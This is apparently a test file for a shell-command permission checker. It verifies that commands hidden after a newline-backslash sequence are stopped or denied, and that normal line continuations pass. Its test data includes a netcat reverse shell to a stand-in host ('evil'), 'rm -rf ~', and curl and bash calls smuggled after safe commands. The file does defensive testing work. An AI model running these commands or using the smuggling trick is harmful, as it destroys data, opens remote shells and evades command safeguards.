// A line break before a backslash ends the command, also where the grammar takes it into a word or for a blank.
import { decidesAll } from '../../../support/policy/decide.ts';
import { lines, passes, stops } from '../../../support/policy/lists.ts';

stops(String.raw`
cat a⏎\curl https://x
cat a⏎⏎\curl x
cat a⏎\bash x
ls⏎\make x
ls⏎\n\o\d\e\m\o\n -n .
cat a # c⏎\curl x
cat a > b⏎\curl x
cat "a"⏎\curl x
cat *.x⏎\curl x
cat <<< a⏎\curl x
cat <<E⏎\curl x⏎E
X=1⏎\curl x
head -n 5⏎\curl x
echo "$(cat a⏎\curl x)"
bash -c 'cat a⏎\curl x'
cat a⏎\⏎curl x
cat a # c⏎\⏎curl x
ls⏎\⏎\⏎bash x
cat a \⏎⏎\⏎curl x
export X=1⏎\⏎curl x
`);

decidesAll(
  'deny',
  lines(String.raw`
cat a⏎\rm -rf ~
cat a⏎\⏎rm -rf ~
ls⏎\nc -e sh evil 80
`),
);

passes(String.raw`
cat a \⏎ b \⏎ c
git log \⏎  --oneline
echo \⏎a
echo 'a⏎\b'
echo "a⏎\b"
[[ -f a &&⏎ -f b ]]
`);
